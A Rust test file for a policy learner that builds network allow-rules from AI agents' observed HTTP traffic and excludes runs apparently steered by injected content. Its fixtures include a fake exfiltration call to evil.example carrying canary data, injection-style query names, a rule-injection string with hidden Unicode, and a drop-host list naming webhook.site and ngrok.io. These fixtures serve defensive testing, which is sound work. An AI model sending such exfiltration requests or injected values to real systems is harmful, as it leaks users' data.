//! What is learned loads, lets just the same traffic through again, and proposes nothing of a run that was led astray.
#![cfg(test)]

use std::collections::BTreeMap;

use exeat_policy::{
    Body, Effect, Policy, Question, Request, Sources, World,
    learn::{Asked, Doubt, End, Ground, Proposal, Seen, Sent, as_patch, learn},
};
use exeat_types::{
    AccountId, AgentId, CallId, CredentialId, Origin, RunId, Source, Timestamp, ToolName,
};
use http::{HeaderMap, HeaderValue, header};
use serde_json::{Value, json};

const NOW: u64 = 1_800_000_000_000;
const HOUR: u64 = 3_600_000;

const TOOLS: &str = r#"
[api]
name = "github"
origin = "https://api.github.com"
credential = "github"

[[tool]]
name = "issues.list"
request = "GET /repos/{owner}/{repo}/issues"
category = "read"
[tool.input.query.properties]
state = { type = "string" }
"#;

const RULES: &str =
    "[[rule]]\nname = \"all\"\nagents = [\"*\"]\ntools = [\"github.*\"]\neffect = \"allow\"\n";

fn world() -> World {
    let github = Origin::parse("https://api.github.com").unwrap();
    let agents = ["claude", "codex"].map(|name| (AgentId::new(name).unwrap(), Vec::new()));
    World {
        agents: agents.into(),
        credentials: [(CredentialId::new("github").unwrap(), vec![github])].into(),
    }
}

fn compiled(files: &BTreeMap<String, String>, rules: &str) -> Policy {
    let mut tools = vec![Source::new("tools/github.toml", TOOLS)];
    tools.extend(
        files
            .iter()
            .map(|(name, text)| Source::new(name.as_str(), text)),
    );
    let sources = Sources {
        tools,
        policy: vec![Source::new("policy.toml", rules)],
        cedar: Vec::new(),
    };
    match Policy::compile(&sources, &world()) {
        Ok(policy) => policy,
        Err(report) => panic!("{report}\n{files:#?}\n{rules}"),
    }
}

/// Calls are written as they come: run, hours ago, method, URL, body.
#[derive(Default)]
struct Traffic {
    seen: Vec<Seen>,
}

impl Traffic {
    fn call(&mut self, run: &str, hours_ago: u64, line: &str, body: Sent) -> &mut Seen {
        let (method, url) = line.split_once(' ').unwrap();
        let (scheme, rest) = url.split_once("://").unwrap();
        let (host, target) = rest.split_at(rest.find('/').unwrap());
        let (path, query) = target
            .split_once('?')
            .map_or((target, None), |(p, q)| (p, Some(q)));
        let at = Timestamp::from_millis(NOW - hours_ago * HOUR);
        let number = u64::try_from(self.seen.len()).unwrap();
        let mut id = [0; 16];
        id[..6].copy_from_slice(&at.millis().to_be_bytes()[2..]);
        id[8..].copy_from_slice(&number.to_be_bytes());
        self.seen.push(Seen {
            call: CallId::from_bytes(id),
            at,
            agent: AgentId::new("claude").unwrap(),
            run: Some(RunId::new(run).unwrap()),
            tool: ToolName::new("observed.read").unwrap(),
            method: method.parse().unwrap(),
            origin: Origin::parse(&format!("{scheme}://{host}")).unwrap(),
            request: Some(Asked {
                path: path.to_owned(),
                query: query.map(str::to_owned),
                body,
            }),
            arguments: None,
            approved: false,
            flagged: false,
            end: End::Answered,
        });
        self.seen.last_mut().unwrap()
    }

    fn get(&mut self, run: &str, hours_ago: u64, url: &str) -> &mut Seen {
        self.call(run, hours_ago, &format!("GET {url}"), Sent::Nothing)
    }

    fn learn(&self) -> Proposal {
        let policy = compiled(&BTreeMap::new(), RULES);
        learn(
            &self.seen,
            &Ground {
                policy: &policy,
                credentials: &world().credentials,
                now: Timestamp::from_millis(NOW),
            },
        )
    }
}

/// Whether a policy lets a call through as it was seen.
fn admits(policy: &Policy, seen: &Seen) -> bool {
    let asked = seen.request.as_ref().unwrap();
    let Ok(found) = policy.find(&seen.method, &seen.origin, &asked.path) else {
        return false;
    };
    let mut headers = HeaderMap::new();
    let text = match &asked.body {
        Sent::Json(value) => value.to_string(),
        Sent::Nothing | Sent::Unread => String::new(),
    };
    if matches!(asked.body, Sent::Json(_)) {
        headers.insert(
            header::CONTENT_TYPE,
            HeaderValue::from_static("application/json"),
        );
    }
    let request = Request {
        method: &seen.method,
        origin: &seen.origin,
        path: &asked.path,
        query: asked.query.as_deref(),
        headers: &headers,
        body: match &asked.body {
            Sent::Nothing => Body::Absent,
            Sent::Json(_) => Body::Whole(text.as_bytes()),
            Sent::Unread => Body::Streamed,
        },
    };
    let Ok(arguments) = found.check(&request) else {
        return false;
    };
    let decision = policy.decide(&Question {
        account: &AccountId::local(),
        agent: &seen.agent,
        tool: &found.tool,
        arguments: &arguments,
        approval: None,
    });
    decision.effect == Effect::Allow
}

fn is_active(proposal: &Proposal) -> bool {
    let toml = proposal.files.values().chain([&proposal.rules]);
    let mut lines = toml.flat_map(|text| text.lines());
    lines.any(|line| !line.is_empty() && !line.starts_with('#'))
}

fn with_rules(proposal: &Proposal) -> Policy {
    compiled(&proposal.files, &format!("{RULES}{}", proposal.rules))
}

fn work() -> Traffic {
    let mut traffic = Traffic::default();
    for (run, hours) in [("run-a", 100), ("run-b", 60), ("run-c", 30)] {
        traffic.get(run, hours, "https://docs.example/api/v1/items/17");
        traffic.get(
            run,
            hours,
            "https://docs.example/api/v1/items/4711?lang=en&page=2",
        );
        traffic.get(
            run,
            hours,
            "https://docs.example/api/v1/search?q=a%20b&deep=true",
        );
        for name in ["a", "b", "c", "d", "e", "f", "g", "h", "i-j"] {
            traffic.get(
                run,
                hours,
                &format!("https://docs.example/crates/{name}/latest/"),
            );
        }
        let body = json!({ "title": "one", "labels": ["x"], "n": 3 });
        traffic.call(
            run,
            hours,
            "POST https://tracker.example/issues",
            Sent::Json(body),
        );
        let file = "PUT https://tracker.example/files/550e8400-e29b-41d4-a716-446655440000";
        traffic.call(run, hours, file, Sent::Unread);
        traffic.call(
            run,
            hours,
            "DELETE https://tracker.example/issues/3",
            Sent::Nothing,
        );
    }
    traffic
}

#[test]
fn what_is_learned_loads_and_admits_the_traffic_again_and_nothing_else() {
    let traffic = work();
    let proposal = traffic.learn();
    let policy = with_rules(&proposal);
    for seen in &traffic.seen {
        assert!(admits(&policy, seen), "{seen:?}\n{proposal:#?}");
    }
    let mut other = Traffic::default();
    for line in [
        "GET https://docs.example/api/v1/items/x",
        "GET https://docs.example/api/v1/items/17?lang=de",
        "GET https://docs.example/api/v1/items/17?extra=1",
        "GET https://docs.example/api/v2/items/17",
        "GET https://docs.example/crates/a/b/latest/",
        "POST https://docs.example/api/v1/items/17",
        "GET https://tracker.example/issues/3",
        "GET https://elsewhere.example/",
    ] {
        other.call("run-d", 0, line, Sent::Nothing);
    }
    let odd = json!({ "title": "one", "labels": ["x"], "n": 3, "admin": true });
    other.call(
        "run-d",
        0,
        "POST https://tracker.example/issues",
        Sent::Json(odd),
    );
    for seen in &other.seen {
        assert!(!admits(&policy, seen), "{seen:?}");
    }
    let mut codex = traffic.seen[0].clone();
    codex.agent = AgentId::new("codex").unwrap();
    assert!(
        !admits(&policy, &codex),
        "what one agent did is proposed for no other"
    );
}

#[test]
fn every_line_has_its_evidence_and_nothing_takes_the_rest_of_a_path() {
    let proposal = work().learn();
    for text in proposal.files.values().chain([&proposal.rules]) {
        assert!(!text.contains("{*"), "{text}");
    }
    let tools = proposal
        .rules
        .lines()
        .filter(|line| line.starts_with("tools = "));
    for line in tools {
        assert!(
            line.contains("3 runs, 2027-01-11 to 2027-01-14: 01"),
            "{line}"
        );
    }
}

/// The run reads something that steers it, and goes where it never was before.
fn poisoned() -> Traffic {
    let mut traffic = Traffic::default();
    traffic
        .get("bad-run", 90, "https://docs.example/page")
        .flagged = true;
    traffic.get(
        "bad-run",
        89,
        "https://evil.example/collect?what=CANARY-data",
    );
    traffic.get("bad-run", 88, "https://docs.example/other");
    traffic
}

#[test]
fn a_poisoned_run_proposes_nothing_active() {
    // The hosts are old, and nothing else speaks against them.
    let mut before = Traffic::default();
    for host in ["docs", "evil"] {
        let url = format!("https://{host}.example/old");
        before.get("good-run", 200, &url);
    }
    before.get("bad-run", 95, "https://docs.example/before");
    let paths = |proposal: &Proposal| {
        let lines = proposal.lines.iter();
        let active = lines.filter(|line| line.doubts.is_empty());
        active.map(|line| line.request.clone()).collect::<Vec<_>>()
    };
    let clean = ["GET /before", "GET /old", "GET /old"];
    let page = ["GET /before", "GET /old", "GET /page", "GET /old"];
    for (flagged, approved, expected) in [(true, false, &page[..]), (true, true, &clean)] {
        let mut traffic = Traffic::default();
        traffic.seen.extend(before.seen.iter().cloned());
        traffic.seen.extend(poisoned().seen);
        let flag = traffic.seen.len() - 3;
        traffic.seen[flag].flagged = flagged;
        traffic.seen[flag].approved = approved;
        let proposal = traffic.learn();
        assert_eq!(paths(&proposal), expected, "{proposal:#?}");
        assert!(
            !proposal
                .rules
                .lines()
                .any(|line| !line.starts_with('#') && line.contains("collect"))
        );
        with_rules(&proposal);
        traffic.seen[flag].flagged = false;
        assert!(
            paths(&traffic.learn()).contains(&"GET /collect".to_owned()),
            "only the flag speaks against it"
        );
    }
}

#[test]
fn what_a_human_let_through_is_no_evidence() {
    for declared in [false, true] {
        let mut traffic = Traffic::default();
        for run in ["one", "two"] {
            let seen = traffic.get(run, 50, "https://api.github.com/repos/acme/app/issues");
            seen.approved = true;
            if declared {
                seen.tool = ToolName::new("github.issues.list").unwrap();
                seen.request = None;
            }
        }
        assert!(traffic.learn().lines.is_empty());
    }
}

#[test]
fn learning_twice_on_one_day_loads() {
    let mut traffic = Traffic::default();
    let seen = traffic.get("one", 50, "https://api.github.com/repos/acme/app/issues");
    seen.tool = ToolName::new("github.issues.list").unwrap();
    seen.request = None;
    let once = traffic.learn();
    let policy = with_rules(&once);
    let ground = Ground {
        policy: &policy,
        credentials: &world().credentials,
        now: Timestamp::from_millis(NOW),
    };
    let twice = learn(&traffic.seen, &ground);
    compiled(
        &BTreeMap::new(),
        &format!("{RULES}{}{}", once.rules, twice.rules),
    );
}

#[test]
fn random_names_in_a_path_are_in_doubt_everywhere() {
    for name in ["d41d8cd98f00b204e980", "q7x2m9k4v8z1w3p6"] {
        for host in ["docs.example", "api.github.com"] {
            let mut traffic = Traffic::default();
            for (run, last) in [("one", "1"), ("two", "2")] {
                traffic.get(run, 50, &format!("https://{host}/items/{name}{last}"));
            }
            let name = format!("{name}1");
            doubted(&traffic, &Doubt::RandomName { name });
        }
    }
}

#[test]
fn on_a_host_with_a_credential_one_run_makes_no_parameter() {
    let mut traffic = Traffic::default();
    for number in ["17", "18"] {
        traffic.get("one", 50, &format!("https://api.github.com/items/{number}"));
    }
    let mut other = Traffic::default();
    let other = other
        .get("one", 1, "https://api.github.com/items/4711")
        .clone();
    assert!(!admits(&with_rules(&traffic.learn()), &other));
    traffic.get("two", 40, "https://api.github.com/items/19");
    assert!(admits(&with_rules(&traffic.learn()), &other));
}

#[test]
fn the_name_of_an_argument_writes_no_condition() {
    for name in [
        "a%22%5D)%20%7C%7C%20true%20%7C%7C%20(%22",
        "if",
        "%22",
        "a%5C",
    ] {
        let mut traffic = Traffic::default();
        for run in ["one", "two"] {
            traffic.get(run, 50, &format!("https://docs.example/list?{name}=en"));
        }
        let policy = with_rules(&traffic.learn());
        assert!(admits(&policy, &traffic.seen[0]), "{name}");
        let mut other = Traffic::default();
        let other = other.get("one", 1, &format!("https://docs.example/list?{name}=de"));
        assert!(!admits(&policy, other), "{name}");
    }
}

#[test]
fn what_comes_after_a_flag_or_an_alarm_in_the_same_run_is_a_comment() {
    for end in [End::Answered, End::Failed, End::Alarm] {
        let mut traffic = poisoned();
        traffic.seen[0].end = end;
        let proposal = traffic.learn();
        let of = |path: &str| {
            let mut lines = proposal.lines.iter();
            let line = lines.find(|line| line.request.ends_with(path));
            line.map(|line| line.doubts.clone())
        };
        let receipt = traffic.seen[0].call;
        let doubt = match end {
            End::Alarm => Doubt::AfterAlarm { receipt },
            _ => Doubt::AfterFlag { receipt },
        };
        for path in ["/collect", "/other"] {
            assert!(of(path).unwrap().contains(&doubt), "{path}");
        }
        let page = of("/page").map(|doubts| doubts.is_empty());
        let expected = match end {
            End::Answered => Some(true),
            End::Failed => None,
            End::Alarm => Some(false),
        };
        assert_eq!(page, expected, "an error is no evidence, flagged or not");
    }
}

#[test]
fn what_a_poisoned_run_adds_to_a_known_line_widens_nothing() {
    let mut traffic = work();
    traffic
        .get("bad-run", 29, "https://docs.example/api/v1/items/17")
        .flagged = true;
    traffic.get(
        "bad-run",
        28,
        "https://docs.example/api/v1/items/9?exfil=CANARY-data",
    );
    traffic.get(
        "bad-run",
        28,
        "https://docs.example/api/v1/items/9?lang=CANARY-data",
    );
    let policy = with_rules(&traffic.learn());
    let poison = traffic.seen.split_off(traffic.seen.len() - 2);
    assert!(traffic.seen.iter().all(|seen| admits(&policy, seen)));
    assert!(poison.iter().all(|seen| !admits(&policy, seen)));
}

#[track_caller]
fn doubted(traffic: &Traffic, expect: &Doubt) {
    let proposal = traffic.learn();
    assert!(!is_active(&proposal), "{proposal:#?}");
    let mut doubts = proposal.lines.iter().flat_map(|line| &line.doubts);
    assert!(doubts.any(|doubt| doubt == expect), "{proposal:#?}");
    with_rules(&proposal);
}

#[test]
fn what_is_in_doubt_is_a_comment() {
    let one = |line: &str, hours: u64| {
        let mut traffic = Traffic::default();
        for run in ["one", "two", "three"] {
            traffic.call(run, hours, line, Sent::Nothing);
        }
        traffic
    };
    doubted(&one("GET https://docs.example/a", 23), &Doubt::NewHost);
    doubted(&one("GET http://docs.example/a", 50), &Doubt::PlainHttp);
    doubted(&one("POST https://webhook.site/a", 50), &Doubt::DropHost);
    doubted(&one("GET https://x.ngrok.io/a", 50), &Doubt::DropHost);
    let name = |name: &str| Doubt::RandomName {
        name: name.to_owned(),
    };
    let host = "GET https://q7x2m9k4v8z1.example/a";
    doubted(&one(host, 50), &name("q7x2m9k4v8z1"));
    doubted(
        &one("GET https://docs.example/a?q7x2m9k4v8z1=1", 50),
        &name("q7x2m9k4v8z1"),
    );
    let mut unread = Traffic::default();
    for run in ["one", "two"] {
        unread.call(run, 50, "POST https://api.github.com/uploads", Sent::Unread);
    }
    doubted(&unread, &Doubt::UnreadBody);
}

#[test]
fn on_a_host_with_a_credential_words_never_become_a_parameter() {
    let mut traffic = Traffic::default();
    for name in ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"] {
        for run in ["one", "two"] {
            traffic.get(run, 50, &format!("https://api.github.com/users/{name}"));
        }
    }
    let proposal = traffic.learn();
    assert_eq!(proposal.lines.len(), 10);
    let policy = with_rules(&proposal);
    assert!(traffic.seen.iter().all(|seen| admits(&policy, seen)));
    let mut other = Traffic::default();
    assert!(!admits(
        &policy,
        other.get("one", 1, "https://api.github.com/users/z")
    ));
}

#[test]
fn values_become_literals_only_if_they_were_seen_in_two_runs() {
    let url = "https://docs.example/list?lang=en";
    let mut once = Traffic::default();
    once.get("one", 50, url);
    once.get("one", 49, url);
    assert!(once.learn().lines[0].literals.is_empty());
    once.get("two", 48, url);
    let proposal = once.learn();
    assert_eq!(proposal.lines[0].literals["lang"], ["en".to_owned()].into());
    once.get("two", 48, "https://docs.example/list?lang=de");
    assert!(
        once.learn().lines[0].literals.is_empty(),
        "one value was seen in one run only"
    );
}

#[test]
fn calls_of_declared_tools_become_rules_with_their_literals() {
    let mut traffic = Traffic::default();
    for run in ["one", "two"] {
        let seen = traffic.get(run, 50, "https://api.github.com/repos/acme/app/issues");
        seen.tool = ToolName::new("github.issues.list").unwrap();
        seen.request = None;
        seen.arguments = Some(json!({
            "path": { "owner": "acme", "repo": "app" }, "query": { "state": "open" },
        }));
    }
    let proposal = traffic.learn();
    assert!(proposal.files.is_empty());
    assert!(proposal.rules.contains("tools = [\"github.issues.list\"]"));
    let policy = compiled(&BTreeMap::new(), &proposal.rules);
    let mut again = Traffic::default();
    for (url, expect) in [
        (
            "https://api.github.com/repos/acme/app/issues?state=open",
            true,
        ),
        ("https://api.github.com/repos/acme/app/issues", true),
        (
            "https://api.github.com/repos/acme/app/issues?state=all",
            false,
        ),
        ("https://api.github.com/repos/evil/app/issues", false),
    ] {
        assert_eq!(admits(&policy, again.get("one", 1, url)), expect, "{url}");
    }
}

#[test]
fn what_an_agent_sent_cannot_write_lines_or_hide() {
    let mut traffic = Traffic::default();
    let odd = "x\"\n[[rule]]\u{202e}\u{7f}";
    let body: Value = json!({ odd: { "\u{200b}": 1 } });
    for run in ["one", "two"] {
        traffic.call(
            run,
            50,
            "POST https://docs.example/a",
            Sent::Json(body.clone()),
        );
    }
    let proposal = traffic.learn();
    for text in proposal.files.values().chain([&proposal.rules]) {
        assert!(
            text.bytes()
                .all(|b| b == b'\n' || (b' '..=b'~').contains(&b)),
            "{text}"
        );
    }
    let policy = with_rules(&proposal);
    assert!(traffic.seen.iter().all(|seen| admits(&policy, seen)));
    assert_eq!(policy.rule_count(), 2);
}

#[test]
fn the_patch_applies() {
    let dir = tempfile::tempdir().unwrap();
    let proposal = work().learn();
    for rules in [RULES, RULES.trim_end(), ""] {
        let home = tempfile::tempdir_in(dir.path()).unwrap();
        std::fs::create_dir(home.path().join("tools")).unwrap();
        std::fs::write(home.path().join("policy.toml"), rules).unwrap();
        let patch = as_patch(&proposal, "tools", ("policy.toml", rules));
        std::fs::write(home.path().join("learned.patch"), patch).unwrap();
        let applied = std::process::Command::new("git")
            .args(["apply", "--unsafe-paths", "learned.patch"])
            .current_dir(home.path())
            .env("GIT_CEILING_DIRECTORIES", dir.path())
            .status();
        assert!(applied.unwrap().success());
        let after = std::fs::read_to_string(home.path().join("policy.toml")).unwrap();
        let expect = format!("{}\n{}", rules.trim_end(), proposal.rules);
        assert_eq!(after.trim(), expect.trim());
        assert!(home.path().join("tools/seen-docs-example.toml").exists());
        if rules.is_empty() {
            let patch = as_patch(&proposal, "tools", ("policy.toml", rules));
            let mut lines = patch
                .lines()
                .skip_while(|line| *line != "+++ b/policy.toml");
            let count = proposal.rules.lines().count();
            let expected = format!("@@ -0,0 +1,{count} @@");
            assert_eq!(lines.nth(1), Some(&*expected));
        }
    }
}
